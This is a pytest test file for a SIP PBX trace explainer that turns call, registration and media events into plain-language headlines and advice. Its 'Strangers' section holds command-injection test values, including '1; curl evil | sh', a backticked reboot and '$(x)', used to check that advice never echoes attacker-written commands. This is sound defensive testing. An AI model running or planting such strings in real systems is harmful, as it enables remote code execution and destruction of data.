from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from centrex.trace import Decision, Rule
from centrex.trace.advice import CREDENTIALS, REFUSALS, REGISTRATIONS, STATUSES, TARGETS
from centrex.trace.explain import Explanation, explain
from centrex.trace.words import WORDS, host, line, person, typable

FLOW = "udp 192.0.2.7:5060"
AOR = b"sip:1001@example.com"
CONTACT = b"<sip:1001@192.0.2.7:5060>"
TARGET = b"sip:1002@192.0.2.9:5060"
REGISTER = (Rule.REQUEST, b"REGISTER", b"sip:example.com", AOR, FLOW)
INVITE = (Rule.REQUEST, b"INVITE", b"sip:1002@example.com", AOR, FLOW)
CHALLENGED = (Rule.CHALLENGED, b"REGISTER", b"example.com", "no credentials for this realm")
LOGGED_IN = (Rule.AUTHENTICATED, b"1001")
TRIED = (Rule.TARGET_TRIED, TARGET, "udp 192.0.2.9:5060")

SAMPLES: dict[Rule, tuple[Any, ...]] = {
    Rule.REQUEST: (b"INVITE", b"sip:1002@example.com", AOR, FLOW),
    Rule.REQUEST_MADE: (b"BYE", b"sip:1002@192.0.2.9:5060", AOR, "operator"),
    Rule.MALFORMED: ("CSeq has no number", "RFC 3261 §20.16"),
    Rule.TOO_LARGE: ("more than 8192 octets", "RFC 3261 §21.5.7"),
    Rule.GUARD_LIMITED: (FLOW,),
    Rule.OVERLOADED: (FLOW,),
    Rule.STOPPING: (FLOW,),
    Rule.UNSUPPORTED_SCHEME: (b"mailto:bob@example.com",),
    Rule.TOO_MANY_HOPS: ("Max-Forwards is 0",),
    Rule.LOOP: (b"sip:1002@example.com",),
    Rule.BAD_EXTENSION: (b"100rel",),
    Rule.MAX_BREADTH: ("Max-Breadth is 0",),
    Rule.CHALLENGED: (b"INVITE", b"example.com", "the nonce is too old"),
    Rule.AUTHENTICATED: (b"1001",),
    Rule.CREDENTIALS_REFUSED: (b"1001", "the password is wrong"),
    Rule.NOT_YOUR_IDENTITY: (b"1001", b"sip:1002@example.com"),
    Rule.TRUSTED: (FLOW,),
    Rule.REGISTERED: (AOR, CONTACT, 3600),
    Rule.REFRESHED: (AOR, CONTACT, 3600),
    Rule.UNREGISTERED: (AOR, CONTACT),
    Rule.EXPIRED: (AOR, CONTACT),
    Rule.CONTACT_SILENT: (AOR, CONTACT, "asked by OPTIONS"),
    Rule.CONTACT_ANSWERS: (AOR, CONTACT, 40),
    Rule.FETCHED: (AOR, 2),
    Rule.REGISTRATION_REFUSED: (AOR, 423, "the interval is too brief"),
    Rule.UNKNOWN_USER: (b"1002",),
    Rule.NOBODY_THERE: (b"1002",),
    Rule.RELAY_DENIED: (b"sip:bob@example.net",),
    Rule.ROUTE_DENIED: (b"<sip:proxy.example.net;lr>",),
    Rule.LOCATED: (b"1002", 1),
    Rule.PLAN: (r"9(\d+)", 2),
    Rule.PLAN_NOT_NOW: (b"sales",),
    Rule.PLAN_SKIPPED: ("voicemail", "no phone is registered"),
    Rule.PLAN_EMPTY: ("1234",),
    Rule.TIME_UP: (60.0,),
    Rule.NOBODY_ANSWERED: (),
    Rule.REDIRECTED: (TARGET, b"sip:1003@192.0.2.10"),
    Rule.NOT_FOLLOWED: (TARGET, "it names no place that was not tried already"),
    Rule.LEG_ENDED: (TARGET, "another has the call"),
    Rule.LEG_LEFT: (TARGET, "a name and address is malformed"),
    Rule.GATEWAY_ASKED: ("pstn", 407),
    Rule.GATEWAY_REFUSED: ("pstn", "its login is refused"),
    Rule.GATEWAY_TRIED: (TARGET, "pstn", "it answers"),
    Rule.NEXT_ADDRESS: (TARGET, "udp 198.51.100.1:5060", "it answered 503"),
    Rule.GATEWAY_SILENT: (TARGET, b"sip:1@gw2.example.net"),
    Rule.OUTSIDE_TARGET: (b"sip:bob@example.net",),
    Rule.IN_DIALOG: (b"BYE", FLOW),
    Rule.UNKNOWN_DIALOG: (b"BYE",),
    Rule.TARGET_IS_SILENT: (TARGET, "called", 40.0),
    Rule.TARGET_TRIED: (TARGET, FLOW),
    Rule.TARGET_PROGRESS: (TARGET, 180),
    Rule.TARGET_ANSWERED: (TARGET, 200),
    Rule.TARGET_REFUSED: (TARGET, 486, b"Busy Here"),
    Rule.TARGET_SILENT: (TARGET, 5.0),
    Rule.TARGET_RANG_OUT: (TARGET, 120),
    Rule.TARGET_CANCELLED: (TARGET,),
    Rule.TARGET_NOT_STOPPED: (TARGET, 20),
    Rule.TARGET_UNREACHABLE: (TARGET, "connection refused"),
    Rule.DNS_FAILED: (b"sip:bob@example.net:5070;transport=tcp", "no such name"),
    Rule.SWITCHED_TRANSPORT: (TARGET, "UDP", "TCP", 1450),
    Rule.SUBSCRIBED: (b"sip:bob@example.com", b"dialog", 3600),
    Rule.SUBSCRIPTION_REFRESHED: (b"sip:bob@example.com", b"dialog", 3600),
    Rule.SUBSCRIPTION_ENDED: (b"sip:bob@example.com", b"dialog", "timeout"),
    Rule.BAD_EVENT: (b"presence",),
    Rule.NOT_ACCEPTABLE: (b"application/reginfo+xml",),
    Rule.SUBSCRIPTION_TOO_BRIEF: (10,),
    Rule.SUBSCRIPTIONS_FULL: (b"alice",),
    Rule.TOO_MANY_SUBSCRIPTIONS: (b"alice",),
    Rule.MEDIA_RELAYED: ("frankfurt", "the caller is behind NAT"),
    Rule.MEDIA_TAKEN_ON: ("192.0.2.100:2223",),
    Rule.MEDIA_DIRECT: ("nothing stands between the phones",),
    Rule.MEDIA_UNRELAYED: ("no media relay is available",),
    Rule.MEDIA_OFFER_UNREAD: ("what is offered cannot be read", 488),
    Rule.MEDIA_FORK_REFUSED: ("another branch of the same call was answered already", 503),
    Rule.MEDIA_REFUSED: ("no media relay is available", 503),
    Rule.MEDIA_DECLINED: ("video", "no media relay has a port left"),
    Rule.MEDIA_LEFT_ALONE: ("audio", "it goes to many at once"),
    Rule.MEDIA_UNFIT: ("audio", "it has no port from 1 to 65535"),
    Rule.MEDIA_UNREADABLE: ("a media line is malformed, or one too many", "RFC 8866 §5.14"),
    Rule.MEDIA_NOTICE: ("caller sends, callee does not", "one-way"),
    Rule.MEDIA_FAMILY: ("frankfurt", "IPv6 address", b"sip:bob@[2001:db8::8]", 4),
    Rule.MEDIA_TOO_LATE: ("the callee's media are behind NAT",),
    Rule.MEDIA_LOST: ("frankfurt", "silent for 60 s"),
    Rule.ANSWERED: (486, "Busy Here"),
    Rule.CANCELLED: (),
    Rule.ENDED: ("caller",),
    Rule.STRAY_RESPONSE: ("no Via of ours",),
    Rule.STRAY_ACK: ("no transaction",),
    Rule.INTERNAL_ERROR: ("a table was empty",),
}


def wall(now: float) -> str:
    return f"2026-11-22T17:00:{now:06.3f}Z"


def told(*decisions: Sequence[Any]) -> Explanation:
    story: list[Decision] = [(float(at), *decision) for at, decision in enumerate(decisions)]
    return explain(b"a84b4c@pc33", story, wall)


# Every rule has its words


@pytest.mark.parametrize("rule", Rule)
def test_every_rule_has_a_sentence_that_uses_its_facts(rule: Rule) -> None:
    assert rule in WORDS
    facts = SAMPLES[rule]
    sentence = line(rule, facts)
    assert "?" not in sentence
    assert "{" not in sentence
    assert len(sentence) > 5
    assert line(rule, ())  # facts that are missing harm nobody


@pytest.mark.parametrize(
    ("seconds", "shown"), [(0.5, "0.5"), (54.9553, "55"), (133.231, "133"), (1234567.8, "1234568")]
)
def test_seconds_are_as_exact_as_anybody_cares(seconds: float, shown: str) -> None:
    assert f" {shown} s " in line(Rule.TARGET_IS_SILENT, (TARGET, "called", seconds))


@pytest.mark.parametrize("rule", Rule)
def test_every_rule_can_end_a_story_of_any_kind(rule: Rule) -> None:
    for start in (REGISTER, INVITE, (Rule.REQUEST, b"MESSAGE", *INVITE[2:])):
        told_so = told(start, (rule, *SAMPLES[rule]))
        assert told_so.headline.endswith(".")
        assert "{" not in told_so.headline + "".join(told_so.advice)
        assert [name for _, name, _ in told_so.lines] == ["request", rule.value]
    assert told((rule, *SAMPLES[rule])).headline


@pytest.mark.parametrize("rule", [*REFUSALS, *TARGETS])
def test_every_refusal_says_what_to_do(rule: Rule) -> None:
    assert told(INVITE, (rule, *SAMPLES[rule])).advice


def test_every_text_fits_its_facts() -> None:
    verdicts = [
        *REFUSALS.values(), *TARGETS.values(), *STATUSES.values(), *REGISTRATIONS.values(),
        *(verdict for _, verdict in CREDENTIALS),
    ]  # fmt: skip
    names = dict.fromkeys(("user", "name", "host", "caller", "callee", "source"), "x")
    for verdict in verdicts:
        for text in (verdict.why, *verdict.advice):
            assert text.format("a", "b", "c", "d", **names)


# Registrations


def test_a_wrong_password() -> None:
    story = told(
        REGISTER, CHALLENGED, REGISTER,
        (Rule.CREDENTIALS_REFUSED, b"1001", "the password is wrong"), (Rule.ANSWERED, 403, "No"),
    )  # fmt: skip
    assert story.headline == (
        "The phone at udp 192.0.2.7:5060 could not register as 1001: wrong password."
    )
    assert story.advice[0] == (
        "Type the password anew in the phone, or set a new one with `centrex user passwd 1001`."
    )


@pytest.mark.parametrize(
    ("reason", "words"),
    [
        ("there is no such login", "no login 1001 is known here"),
        ("the login is disabled", "switched off"),
        ("the login has no hash for this algorithm", "not stored in the form"),
        ("the nonce is too old", "out of date"),
        ("the nonce count was used before", "out of date"),
        ("the credentials are for another Request-URI", "cannot be used"),
        ("the credentials cannot be read", "cannot be used"),
        ("the credentials lack a parameter", "cannot be used"),
        ("the password is wrong", "wrong password"),
    ],
)
def test_refused_credentials_by_their_reason(reason: str, words: str) -> None:
    refused = (Rule.CREDENTIALS_REFUSED, b"1001", reason)
    assert words in told(REGISTER, CHALLENGED, REGISTER, refused).headline
    assert words in told(REGISTER, refused, CHALLENGED).headline


def test_a_phone_without_a_password() -> None:
    story = told(REGISTER, CHALLENGED, (Rule.ANSWERED, 401, "Unauthorized"))
    assert "it was asked for a password and never gave one" in story.headline


def test_a_registration_that_stands_and_is_challenged_at_each_renewal() -> None:
    registered = (Rule.REGISTERED, AOR, CONTACT, 3600)
    story = told(REGISTER, CHALLENGED, REGISTER, LOGGED_IN, registered, REGISTER, CHALLENGED)
    assert story.headline == (
        "The phone at udp 192.0.2.7:5060 is registered as 1001 for 3600 s: "
        "<sip:1001@192.0.2.7:5060>."
    )
    assert story.advice == ()


def test_a_registered_phone_that_does_not_answer() -> None:
    registered = (Rule.REGISTERED, AOR, CONTACT, 3600)
    silent = (Rule.CONTACT_SILENT, AOR, CONTACT, "asked by OPTIONS")
    story = told(REGISTER, registered, silent)
    assert story.headline.endswith("; it does not answer when it is asked by OPTIONS.")
    assert "still tried" in story.advice[0]
    answers = (Rule.CONTACT_ANSWERS, AOR, CONTACT, 40)
    assert not told(REGISTER, registered, silent, answers).advice
    assert not told(REGISTER, registered, silent, answers, REGISTER, registered).advice
    assert told(REGISTER, registered, silent, answers, silent).advice


@pytest.mark.parametrize(
    ("decision", "words"),
    [
        ((Rule.UNREGISTERED, AOR, CONTACT), "signed off"),
        ((Rule.EXPIRED, AOR, CONTACT), "did not renew in time"),
        ((Rule.FETCHED, AOR, 2), "asked where 1001 is registered"),
        ((Rule.REGISTRATION_REFUSED, AOR, 423, "too brief"), "too short (423)"),
        ((Rule.REGISTRATION_REFUSED, AOR, 403, "more than 10 contacts"), "more than 10 contacts"),
        ((Rule.REGISTRATION_REFUSED, AOR, 503, "the registry is away"), "503 the registry is away"),
        ((Rule.NOT_YOUR_IDENTITY, b"1001", b"sip:1002@x"), "may not speak as sip:1002@x"),
        ((Rule.ANSWERED, 500, "Oops"), "(500)"),
        ((Rule.AUTHENTICATED, b"1001"), "nothing came of it yet"),
    ],
)
def test_other_ends_of_a_registration(decision: tuple[Any, ...], words: str) -> None:
    assert words in told(REGISTER, decision).headline


# Calls


@pytest.mark.parametrize(
    ("decisions", "headline"),
    [
        (
            [(Rule.NOBODY_THERE, b"1002"), (Rule.ANSWERED, 480, "x")],
            "1001 called 1002; nobody is registered as 1002 (480).",
        ),
        (
            [(Rule.UNKNOWN_USER, b"1002"), (Rule.ANSWERED, 404, "Not Found")],
            "1001 called 1002; there is no 1002 here (404).",
        ),
        (
            [TRIED, (Rule.TARGET_REFUSED, TARGET, 486, b"Busy Here"), (Rule.ANSWERED, 486, "x")],
            "1001 called 1002; 1002 is busy (486).",
        ),
        (
            [TRIED, (Rule.TARGET_REFUSED, TARGET, 603, b"Decline")],
            "1001 called 1002; 1002 declined the call (603).",
        ),
        (
            [TRIED, (Rule.TARGET_REFUSED, TARGET, 499, b"{odd}"), (Rule.ANSWERED, 499, "{odd}")],
            "1001 called 1002; it was answered 499 {odd}.",
        ),
        (
            [TRIED, (Rule.TARGET_SILENT, TARGET, 5.0), (Rule.ANSWERED, 408, "x")],
            "1001 called 1002; the phone of 1002 at sip:1002@192.0.2.9:5060 gave no sign of life "
            "for 5 s.",
        ),
        (
            [TRIED, (Rule.TARGET_PROGRESS, TARGET, 180), (Rule.TARGET_RANG_OUT, TARGET, 120)],
            "1001 called 1002; the phone of 1002 rang for 120 s and nobody answered.",
        ),
        (
            [TRIED, (Rule.TARGET_PROGRESS, TARGET, 180), (Rule.CANCELLED,)],
            "1001 called 1002; it rang, and 1001 gave up before anybody answered (487).",
        ),
        (
            [TRIED, (Rule.CANCELLED,), (Rule.TARGET_CANCELLED, TARGET)],
            "1001 called 1002 and gave up before any phone rang (487).",
        ),
        (
            [TRIED, (Rule.TARGET_ANSWERED, TARGET, 200), (Rule.ENDED, "callee")],
            "1001 called 1002 and was answered; 1002 hung up after 1 s.",
        ),
        (
            [TRIED, (Rule.TARGET_ANSWERED, TARGET, 200), (Rule.ENDED, "timeout")],
            "1001 called 1002 and was answered; after 1 s neither phone was heard of any more.",
        ),
        (
            [TRIED, (Rule.TARGET_ANSWERED, TARGET, 200), (Rule.ENDED, "operator", 1.0)],
            "1001 called 1002 and was answered; after 1 s the operator ended it.",
        ),
        (
            [TRIED, (Rule.ENDED, "operator"), (Rule.ANSWERED, 487, "x")],
            "1001 called 1002; the operator ended it before anybody answered (487).",
        ),
        (
            [TRIED, (Rule.TARGET_ANSWERED, TARGET, 200)],
            "1001 called 1002 and was answered; the call is up.",
        ),
        (
            [(Rule.LOOP, "x"), (Rule.ANSWERED, 482, "x")],
            "1001 called 1002; it came back to this server unchanged (482).",
        ),
        (
            [CHALLENGED, INVITE, LOGGED_IN, (Rule.LOCATED, b"1002", 1), TRIED],
            "1001 called 1002; it was sent on, without an answer so far.",
        ),
        (
            [TRIED, (Rule.TARGET_PROGRESS, TARGET, 180)],
            "1001 called 1002; it is ringing, without an answer so far.",
        ),
        (
            [CHALLENGED, INVITE, (Rule.CREDENTIALS_REFUSED, b"1001", "the password is wrong")],
            "1001 called 1002; it was refused: wrong password.",
        ),
        (
            [CHALLENGED, INVITE, LOGGED_IN],
            "1001 called 1002; nothing came of it yet.",
        ),
        (
            [TRIED, (Rule.TARGET_UNREACHABLE, TARGET, "connection refused")],
            "1001 called 1002; sip:1002@192.0.2.9:5060 could not be reached: connection refused.",
        ),
        (
            [(Rule.DNS_FAILED, b"example.net", "no such name")],
            "1001 called 1002; the name example.net could not be looked up: no such name.",
        ),
    ],
)
def test_what_became_of_a_call(decisions: list[tuple[Any, ...]], headline: str) -> None:
    assert told(INVITE, *decisions).headline == headline


def test_the_phone_whose_refusal_was_passed_on_is_the_one_spoken_of() -> None:
    story = told(
        INVITE, TRIED, (Rule.TARGET_REFUSED, TARGET, 486, b"Busy Here"),
        (Rule.TARGET_SILENT, b"sip:1002@192.0.2.10", 5), (Rule.ANSWERED, 486, "Busy Here"),
    )  # fmt: skip
    assert "1002 is busy (486)" in story.headline


def test_a_silent_phone_is_told_of_when_the_caller_gave_up() -> None:
    story = told(INVITE, TRIED, (Rule.TARGET_SILENT, TARGET, 5), TRIED, (Rule.CANCELLED,))
    assert "gave up: the phone of 1002" in story.headline
    assert "switched on" in story.advice[0]


def test_trouble_in_a_call_that_was_answered() -> None:
    answered = (Rule.TARGET_ANSWERED, TARGET, 200)
    story = told(INVITE, TRIED, answered, (Rule.TARGET_SILENT, TARGET, 32))
    assert "was answered; later: the phone of 1002" in story.headline


def test_the_other_phones_of_a_call_that_was_answered_are_no_trouble() -> None:
    other = b"sip:1002@192.0.2.10"
    tried = (Rule.TARGET_TRIED, other, b"udp 192.0.2.10:5060")
    answered = (Rule.TARGET_ANSWERED, TARGET, 200)
    silent = (Rule.TARGET_SILENT, other, 32)
    story = told(INVITE, TRIED, tried, answered, (Rule.TARGET_CANCELLED, other), silent)
    assert story.headline == "1001 called 1002 and was answered; the call is up."
    assert not story.advice
    story = told(INVITE, TRIED, tried, answered, (Rule.TARGET_UNREACHABLE, other, "it is off"))
    assert story.headline.endswith("the call is up.")
    story = told(INVITE, TRIED, tried, answered, silent, tried, silent)
    assert "later: the phone of 1002" in story.headline


def test_other_requests() -> None:
    message = (Rule.REQUEST, b"MESSAGE", b"sip:1002@example.com", AOR, FLOW)
    assert told(message, (Rule.ANSWERED, 202, "Accepted")).headline == (
        "1001 sent MESSAGE to 1002; it was accepted."
    )
    assert "nobody is registered" in told(message, (Rule.NOBODY_THERE, b"1002")).headline


def test_an_unknown_call_id() -> None:
    story = explain(b"a\x1b[2Jb", (), wall)
    assert story.headline == "Nothing is known of the Call-ID a\\x1b[2Jb."
    assert story.advice
    assert story.lines == ()


def test_lines_tell_each_decision_in_order() -> None:
    story = told(INVITE, (Rule.UNKNOWN_USER, b"1002"), (Rule.ANSWERED, 404, "Not Found"))
    assert story.lines == (
        (
            "2026-11-22T17:00:00.000Z",
            "request",
            "INVITE for sip:1002@example.com from sip:1001@example.com came in by "
            "udp 192.0.2.7:5060",
        ),
        ("2026-11-22T17:00:01.000Z", "unknown-user", "there is no user 1002 here"),
        ("2026-11-22T17:00:02.000Z", "answered", "the final answer was 404 Not Found"),
    )


# Strangers


def test_advice_never_holds_a_command_a_stranger_wrote() -> None:
    story = told(REGISTER, (Rule.CREDENTIALS_REFUSED, b"1; curl evil | sh", "wrong"))
    assert "`centrex user passwd NAME`" in story.advice[0]
    story = told(INVITE, (Rule.UNKNOWN_USER, b"`reboot`"))
    assert "`centrex user add NAME`" in story.advice[1]


facts = st.lists(
    st.one_of(
        st.binary(max_size=30), st.text(max_size=30), st.integers(), st.floats(), st.none(),
        st.sampled_from([b"{0}", b"{x!r}", b"%s", b"<sip:@>", b"sip:", b"{"]),
    ),
    max_size=6,
)  # fmt: skip


@given(st.lists(st.tuples(st.sampled_from(list(Rule)), facts), max_size=8))
def test_no_story_is_too_odd_to_be_told(decisions: list[tuple[Rule, list[Any]]]) -> None:
    story = told(*[(rule, *some) for rule, some in decisions])
    texts = [story.headline, *story.advice, *(text for _, _, text in story.lines)]
    assert all(text and text.isprintable() for text in texts)
    assert all(len(text) < 6_000 for text in texts)


@pytest.mark.parametrize(
    ("uri", "name"),
    [
        ("sip:1001@example.com", "1001"),
        ("SIPS:1001:secret@example.com;transport=tcp", "1001"),
        ('"Bob" <sip:bob@example.com>;tag=1', "bob"),
        ("tel:+491234;phone-context=x", "+491234"),
        ("sip:example.com;lr", "example.com"),
        ("sip:[2001:db8::1]:5060", "[2001:db8::1]:5060"),
        ("1002", "1002"),
        ("", ""),
    ],
)
def test_whom_a_uri_means(uri: str, name: str) -> None:
    assert person(uri) == name


@pytest.mark.parametrize(
    "uri",
    ["sip:bob@pbx.net:5070;transport=tcp", "SIPS:pbx.net?x=y", "sip:a%40b@pbx.net", "pbx.net"],
)
def test_the_host_of_a_uri(uri: str) -> None:
    assert host(uri) == "pbx.net"


def test_who_is_not_known_to_dns_is_looked_for_by_his_host() -> None:
    story = told(INVITE, (Rule.DNS_FAILED, b"sip:bob@pbx.net;transport=tcp", "no such name"))
    assert "`getent hosts pbx.net`" in " ".join(story.advice)


@pytest.mark.parametrize("name", ["-x", "a b", "$(x)", "a;b", "", "a\\x1b", "…"])
def test_what_is_not_safe_to_type_is_not_offered(name: str) -> None:
    assert typable(name) == "NAME"


def test_a_watcher_is_told_of_in_a_sentence() -> None:
    start = (Rule.REQUEST, b"SUBSCRIBE", b"sip:bob@example.com", AOR, FLOW)
    watched = (Rule.SUBSCRIBED, b"sip:bob@example.com", b"dialog", 3600)
    assert told(start, watched).headline.endswith("watches bob (dialog) for 3600 s.")
    ended = (Rule.SUBSCRIPTION_ENDED, b"sip:bob@example.com", b"dialog", "timeout")
    assert told(start, watched, ended).headline.endswith("no longer watches bob (dialog): timeout.")
    assert told(start, (Rule.BAD_EVENT, b"presence")).advice


def test_the_time_for_all_destinations_is_up() -> None:
    refused = (Rule.TARGET_REFUSED, TARGET, 480, b"Temporarily Unavailable")
    story = told(
        INVITE, TRIED, refused, TRIED, (Rule.TARGET_RANG_OUT, TARGET, 30), (Rule.TIME_UP, 30.0),
        (Rule.NOBODY_ANSWERED,), (Rule.ANSWERED, 480, "Temporarily Unavailable"),
    )  # fmt: skip
    assert "within the 30 s that all its destinations have together" in story.headline
    assert "timeouts.call_maximum" in story.advice[0]


# gateways


@pytest.mark.parametrize(
    ("failure", "headline", "advice"),
    [
        ((Rule.TARGET_SILENT, TARGET, 5.0), "the gateway pstn gave no sign of life", "gateways"),
        ((Rule.TARGET_UNREACHABLE, TARGET, "refused"), "the gateway pstn could not", "gateways"),
        ((Rule.TARGET_RANG_OUT, TARGET, 120), "by way of the gateway pstn", "ring"),
        ((Rule.TARGET_REFUSED, TARGET, 403, b"No credit"), "answered 403 No credit", "provider"),
        ((Rule.TARGET_REFUSED, TARGET, 486, b"Busy Here"), "1002 is busy", "Try again"),
    ],
)
def test_a_gateway_is_no_phone(failure: tuple[Any, ...], headline: str, advice: str) -> None:
    tried = (Rule.GATEWAY_TRIED, TARGET, "pstn", "it answers")
    story = told(INVITE, TRIED, tried, failure, (Rule.ANSWERED, 480, "Temporarily Unavailable"))
    assert headline in story.headline
    assert any(advice in one for one in story.advice)
    assert not any("registered" in one for one in story.advice)
    phone = told(INVITE, TRIED, failure)
    assert "gateway" not in phone.headline


# Voice

UP: list[tuple[Any, ...]] = [INVITE, (Rule.TARGET_ANSWERED, TARGET)]
ONE_WAY = (Rule.MEDIA_NOTICE, "caller sends, callee does not", "one-way")
TWO_WAY = (Rule.MEDIA_NOTICE, "both sides are heard again", "two-way")
LOST = (Rule.MEDIA_LOST, "r1", "silent for 60 s")
UNRELAYED = (Rule.MEDIA_UNRELAYED, "no media relay is available")


@pytest.mark.parametrize("over", [False, True])
@pytest.mark.parametrize(
    ("what", "words", "advice"),
    [
        (ONE_WAY, "Not all is heard: caller sends, callee does not.", "port_range"),
        (LOST, "The relay r1 has ended its part: silent for 60 s.", "hold"),
        (UNRELAYED, "Voice is not relayed, though it should be: no media relay", "centrex relays"),
    ],
)
def test_a_call_without_voice_says_so_and_what_to_do(
    what: tuple[Any, ...], words: str, advice: str, over: bool
) -> None:
    """While it is up, and once it is over: that is when people ask."""
    story = told(*UP, what, *([(Rule.ENDED, "caller")] if over else []))
    assert words in story.headline
    assert story.headline.endswith(".")
    assert advice in story.advice[0]


@pytest.mark.parametrize(
    "then",
    [
        (TWO_WAY,),
        (UNRELAYED, (Rule.MEDIA_RELAYED, "r1", "the caller is behind NAT")),
        (LOST, (Rule.MEDIA_RELAYED, "r2", "it was relayed before")),
    ],
)
def test_what_is_well_again_is_no_trouble(then: tuple[tuple[Any, ...], ...]) -> None:
    story = told(*UP, ONE_WAY, *then, (Rule.MEDIA_NOTICE, "neither side sends", "deadlock"))
    assert story.headline.endswith("the call is up.")
    assert not story.advice


def test_a_call_from_before_a_restart_that_was_hung_up_is_not_up() -> None:
    """The table of calls does not know it, so nothing but the BYE tells of its end."""
    within = [INVITE, (Rule.IN_DIALOG, "INVITE", "udp"), (Rule.TARGET_ANSWERED, TARGET)]
    bye = (Rule.REQUEST, "BYE", "sip:1002@x", "sip:1002@192.0.2.10", "udp 192.0.2.8:5060")
    story = told(*within)
    assert story.headline.endswith("whose beginning is not known: it is up.")
    story = told(*within, bye, (Rule.IN_DIALOG, "BYE", "udp"), (Rule.TARGET_ANSWERED, TARGET))
    assert story.headline.endswith("whose beginning is not known: 1002 hung up.")
